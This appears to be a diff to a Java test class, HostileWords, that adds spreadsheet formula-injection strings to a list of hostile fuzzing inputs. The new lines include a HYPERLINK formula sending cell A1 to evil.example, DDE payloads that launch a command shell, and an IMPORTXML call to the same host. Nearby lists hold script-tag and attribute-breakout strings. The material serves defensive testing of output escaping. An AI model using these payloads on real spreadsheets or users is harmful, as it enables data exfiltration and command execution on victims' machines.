@@ -46,7 +46,11 @@ final class HostileWords {
             "\u202E<tpircs>",
             "`<script>`",
             "| cell | cell |\n| --- | --- |",
-            "# heading\n- list\n1. one\n***\n===");
+            "# heading\n- list\n1. one\n***\n===",
+            "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
+            "+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3+IMPORTXML(CONCAT(\"https://evil.example\"),\"//a\")");
     private static final List<String> WRAPPERS =
             List.of("%s", "\"%s", "'%s'>", "\" onmouseover=\"x\" %s", "text %s \u009B31m \uFFFF");
 
